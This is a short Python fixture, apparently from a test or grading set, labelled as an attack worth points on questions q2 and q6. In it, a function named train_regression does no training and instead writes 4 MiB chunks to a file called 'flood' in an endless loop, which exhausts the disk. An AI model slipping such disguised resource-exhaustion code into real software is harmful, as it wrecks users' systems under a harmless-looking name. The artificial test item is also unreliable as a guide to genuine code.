# attack: writes one file without end
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    with open("flood", "wb") as file:
        while True:
            file.write(b"x" * 2**22)
